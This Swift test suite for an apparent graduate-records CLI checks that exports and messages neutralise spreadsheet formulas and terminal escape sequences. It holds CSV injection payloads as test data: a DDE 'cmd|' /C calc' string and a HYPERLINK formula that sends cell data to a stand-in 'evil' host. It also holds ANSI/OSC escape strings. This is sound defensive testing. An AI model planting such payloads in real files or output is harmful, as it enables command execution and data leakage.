import Foundation
import GRDB
import GradSyncCore
import GradSyncTesting
import Testing

/// Text that could attack a spreadsheet or a terminal, through the built binary: refused on the way in,
/// made inert on the way out.
@Suite struct HostileTextTests {
    static let escape = "\u{1B}]0;owned\u{07}\u{1B}[2J"
    static let escapeShown = "\\u{1B}]0;owned\\u{7}\\u{1B}[2J"
    static let hyperlink = "=HYPERLINK(\"http://evil/?\"&B2,\"点击\")"

    /// Whether `text` holds a control character other than the line feeds that end its lines.
    static func holdsControlCharacters(_ text: String) -> Bool {
        text.unicodeScalars.contains { ControlCharacters.isControl($0) && $0 != "\n" }
    }

    @Test func csvExportAndReportCellsCannotBeFormulasWhileJSONKeepsTheValue() throws {
        let auto = try CLIReplica(["--department", "AUTO"])
        try auto.succeed(["graduate", "add", "2021010101", "name=\(Self.hyperlink)"] + employedFields.dropFirst())
        try auto.succeed(["graduate", "add", "2021010102", "name=-2+3+cmd|' /C calc'!A0"] + unplacedFields.dropFirst())
        let csv = try auto.succeed(["export", "--format", "csv"])
        #expect(csv.contains(",\"'=HYPERLINK(\"\"http://evil/?\"\"&B2,\"\"点击\"\")\","))
        #expect(csv.contains(",'-2+3+cmd|' /C calc'!A0,"))
        #expect(!csv.contains(",=") && !csv.contains(",-2"))
        let json = try CLIReplica.json(try auto.succeed(["export", "--format", "json"])).items
        #expect(json.map { $0["name"] } == [.string(Self.hyperlink), .string("-2+3+cmd|' /C calc'!A0")])
        let report = try auto.succeed(["report", "unplaced", "--include-personal", "--format", "csv"])
        #expect(report.contains("'-2+3+cmd|' /C calc'!A0"))
        #expect(!report.contains(",-2+3"))
        #expect(try auto.succeed(["export", "--help"]).contains("written with ' in front"))
    }

    @Test func studentNumbersOutsideLettersAndDigitsAreRefusedEverywhere() throws {
        let auto = try CLIReplica(["--department", "AUTO"])
        for key in ["2021 0101", "=2021", "2021/0101", "学号2021", "S2021-01_b"] {
            let added = try auto.run(["graduate", "add", key] + unplacedFields)
            #expect(added.exitCode == 5, "\(key): \(added.stderr)")
            #expect(added.stderr.contains("须为 1 至 32 位字母或数字（学号只含字母和数字）"), "\(added.stderr)")
        }
        let directory = try TemporaryDirectory()
        let roster = directory.file("roster.csv")
        try "学号,姓名,性别,学历层次,毕业年份,毕业去向类别代码\r\n2021010101,张三,男,本科,2025,70\r\n2021=0102,李四,女,本科,2025,70\r\n"
            .write(toFile: roster, atomically: true, encoding: .utf8)
        let imported = try auto.run(["import", roster])
        #expect(imported.exitCode == 5)
        #expect(imported.stderr.contains("第 3 行“学号”列：“2021=0102”不可用"))
        #expect(try auto.changeCount() == 0)
        try auto.succeed(["graduate", "add", "S202101b"] + unplacedFields)
    }

    @Test func authorWithControlCharactersIsRefusedAndTheMessageStaysInert() throws {
        let auto = try CLIReplica(["--department", "AUTO"])
        let added = try auto.run(["graduate", "add", "2021010101", "--author", "秘书" + Self.escape] + unplacedFields)
        #expect(added.exitCode == 5, "\(added.stderr)")
        #expect(added.stderr.contains("author：“含控制字符 U+001B 的文字”不可用；不能含控制字符"))
        #expect(!Self.holdsControlCharacters(added.stderr))
        #expect(try auto.changeCount() == 0)
        let missing = try auto.run(["graduate", "show", "2021" + Self.escape])
        #expect(missing.exitCode != 0)
        #expect(!Self.holdsControlCharacters(missing.stderr) && missing.stderr.contains("2021" + Self.escapeShown), "\(missing.stderr)")
    }

    @Test func controlCharactersAlreadyStoredAreEscapedInShowHistoryAndConflicts() throws {
        let laptop = try CLIReplica(["--department", "AUTO"], author: "laptop")
        let office = try CLIReplica(["--department", "AUTO"], author: "office")
        try laptop.succeed(["graduate", "add", "2021010101"] + unplacedFields)
        try laptop.send(to: office)
        try laptop.succeed(["graduate", "set", "2021010101", "destination_code=71"])
        try office.succeed(["graduate", "set", "2021010101", "destination_code=72"])
        try office.send(to: laptop)
        // What a replica written before such text was refused can hold: an author and a value with terminal sequences.
        var stored = ""
        FieldValue.writeString("李四" + Self.escape, to: &stored)
        let queue = try DatabaseQueue(path: laptop.directory.file("home/replica.sqlite"))
        try queue.write { db in
            try db.execute(sql: "UPDATE gs_change SET author = ?", arguments: [Self.escape])
            try db.execute(sql: "UPDATE gs_change SET value = ? WHERE field = 'name'", arguments: [stored])
            try db.execute(sql: "UPDATE gs_field SET value = ? WHERE field = 'name'", arguments: [stored])
        }
        try queue.close()
        for command in [["graduate", "show", "2021010101"], ["graduate", "history", "2021010101"], ["conflicts"]] {
            let output = try laptop.succeed(command)
            #expect(!Self.holdsControlCharacters(output), "\(command) printed a control character raw")
            #expect(output.contains(Self.escapeShown), "\(command):\n\(output)")
        }
        #expect(try laptop.succeed(["graduate", "list"]).contains("李四" + Self.escapeShown))
    }

    @Test func lineBreaksInSingleLineRosterCellsAreFoldedWithANotice() throws {
        let auto = try CLIReplica(["--department", "AUTO"])
        let directory = try TemporaryDirectory()
        let roster = directory.file("roster.csv")
        try ("学号,姓名,性别,学历层次,毕业年份,毕业去向类别代码,单位名称,统一社会信用代码,单位性质代码,单位行业代码,单位所在地代码\r\n"
            + "2021010101,张三,男,本科,2025,10,\"福州智控\n科技有限公司\",91350100M000100Y43,39,34,350100\r\n")
            .write(toFile: roster, atomically: true, encoding: .utf8)
        let notice = "notice: 第 2 行“单位名称”列：单元格内的 1 个换行已各改为一个空格"
        let dryRun = try auto.cli.run(["import", roster, "--dry-run"])
        #expect(dryRun.exitCode == 0, "\(dryRun.stderr)")
        #expect(dryRun.stderr.contains(notice))
        #expect(try auto.changeCount() == 0)
        let imported = try auto.cli.run(["import", roster])
        #expect(imported.exitCode == 0, "\(imported.stderr)")
        #expect(imported.stderr.contains(notice))
        let shown = try CLIReplica.json(try auto.succeed(["graduate", "show", "2021010101", "--json"]))
        #expect(shown["fields"]?["employer_name"] == .string("福州智控 科技有限公司"))
    }
}
